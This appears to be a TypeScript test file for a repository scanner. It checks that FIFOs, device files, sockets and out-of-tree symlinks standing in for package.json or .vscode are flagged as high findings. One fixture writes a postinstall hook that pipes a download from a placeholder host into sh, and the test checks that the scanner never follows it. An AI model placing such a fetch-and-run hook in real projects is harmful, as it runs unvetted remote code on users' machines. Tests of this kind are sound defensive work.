/**
 * Hostile input: files that are not what a reader expects where a trigger reads them. A FIFO,
 * a device or a socket named package.json, and a subfolder whose package.json or .vscode is a
 * link out of the tree: each used to be silent (verdict pass); each is now a finding.
 */
import assert from 'node:assert/strict';
import { spawnSync } from 'node:child_process';
import { mkdirSync, symlinkSync } from 'node:fs';
import { createServer } from 'node:net';
import { join } from 'node:path';
import { describe, it } from 'node:test';
import { findingsOf, scanFixture, tempRepo } from '../helpers/fixtures.ts';

const isRoot = process.getuid?.() === 0;

function gapsOf(report: Awaited<ReturnType<typeof scanFixture>>): [string, string][] {
  return findingsOf(report, 'scan/incomplete-analysis').map(f => [f.severity, f.location.file]);
}

describe('hostile: special files', () => {
  it('a FIFO named package.json is a high finding, and the scan does not block on it', async () => {
    const dir = tempRepo({ 'README.md': '# app\n' });
    const made = spawnSync('mkfifo', [join(dir, 'package.json')]);
    assert.equal(made.status, 0, String(made.stderr));
    const report = await scanFixture(dir);
    assert.deepEqual(gapsOf(report), [['high', 'package.json']]);
    assert.equal(report.errors.find(e => e.file === 'package.json')?.kind, 'not-regular');
    assert.equal(report.verdict, 'review');
  });

  it('a character device named package.json is a high finding', { skip: !isRoot && 'mknod needs root' }, async () => {
    const dir = tempRepo({ 'README.md': '# app\n' });
    mkdirSync(join(dir, 'web'));
    // The same device numbers as /dev/null: nothing is ever read from it.
    const made = spawnSync('mknod', [join(dir, 'web/package.json'), 'c', '1', '3']);
    assert.equal(made.status, 0, String(made.stderr));
    const report = await scanFixture(dir);
    assert.deepEqual(gapsOf(report), [['high', 'web/package.json']]);
  });

  it('a socket named package.json is a high finding', async () => {
    const dir = tempRepo({ 'README.md': '# app\n' });
    const server = createServer();
    await new Promise<void>(resolve => server.listen(join(dir, 'package.json'), resolve));
    try {
      const report = await scanFixture(dir);
      assert.deepEqual(gapsOf(report), [['high', 'package.json']]);
    } finally {
      server.close();
    }
  });

  it("a subfolder's package.json or .vscode that links out of the tree is a high finding", async () => {
    const outside = tempRepo({ 'package.json': '{"scripts":{"postinstall":"curl https://x.example.invalid | sh"}}\n' });
    const dir = tempRepo({ 'package.json': '{"name":"root"}\n', 'api/server.js': 'module.exports = 1;\n' });
    symlinkSync(join(outside, 'package.json'), join(dir, 'api/package.json'));
    mkdirSync(join(dir, 'web'));
    symlinkSync(outside, join(dir, 'web/.vscode'));
    const report = await scanFixture(dir);
    assert.deepEqual(gapsOf(report), [
      ['high', 'api/package.json'],
      ['high', 'web/.vscode'],
    ]);
    // Nothing was read through the links.
    assert.equal(
      report.executionMap.some(s => s.command?.includes('example.invalid') === true),
      false,
    );
  });

  it('an ordinary symlink out of the tree with no trigger behind it stays in errors only', async () => {
    const outside = tempRepo({ 'notes.txt': 'x\n' });
    const dir = tempRepo({ 'package.json': '{"name":"root"}\n' });
    symlinkSync(join(outside, 'notes.txt'), join(dir, 'notes.txt'));
    const report = await scanFixture(dir);
    assert.deepEqual(gapsOf(report), []);
    assert.equal(report.errors.find(e => e.file === 'notes.txt')?.kind, 'symlink-out');
    assert.equal(report.verdict, 'pass');
  });

  it('a dangling link whose target path stays inside the tree points at nothing: no gap, a note in errors', async () => {
    // turbo's examples/with-prisma/packages/database/.env -> ../../.env (the .env is not committed),
    // scaffold-eth's .cursor/skills/x -> ../../.agents/skills/x (not in the checkout).
    const dir = tempRepo({ 'package.json': '{"name":"root","scripts":{"dev":"node server.js"}}\n', 'server.js': '1;\n' });
    mkdirSync(join(dir, 'packages/database'), { recursive: true });
    symlinkSync('../../.env', join(dir, 'packages/database/.env'));
    mkdirSync(join(dir, '.cursor/skills'), { recursive: true });
    symlinkSync('../../.agents/skills/solidity-security', join(dir, '.cursor/skills/solidity-security'));
    const report = await scanFixture(dir);
    assert.deepEqual(gapsOf(report), []);
    const note = report.errors.find(e => e.file === '.cursor/skills/solidity-security');
    assert.equal(note?.kind, undefined);
    assert.match(note?.message ?? '', /points at nothing inside the target/);
    assert.equal(report.verdict, 'pass');
  });

  it('a dangling link that climbs out of the tree, or passes through a link that leaves it, stays a gap', async () => {
    const outside = tempRepo({ 'notes.txt': 'x\n' });
    const dir = tempRepo({ 'package.json': '{"name":"root"}\n' });
    mkdirSync(join(dir, '.cursor'));
    symlinkSync('../../missing-outside/skills', join(dir, '.cursor/skills'));
    symlinkSync(outside, join(dir, 'out'));
    mkdirSync(join(dir, '.vscode'));
    symlinkSync('../out/missing/tasks.json', join(dir, '.vscode/tasks.json'));
    const report = await scanFixture(dir);
    assert.equal(report.errors.find(e => e.file === '.cursor/skills')?.kind, 'symlink-out');
    assert.equal(report.errors.find(e => e.file === '.vscode/tasks.json')?.kind, 'symlink-out');
    assert.deepEqual(gapsOf(report), [
      ['high', '.cursor/skills'],
      ['high', '.vscode/tasks.json'],
    ]);
  });
});
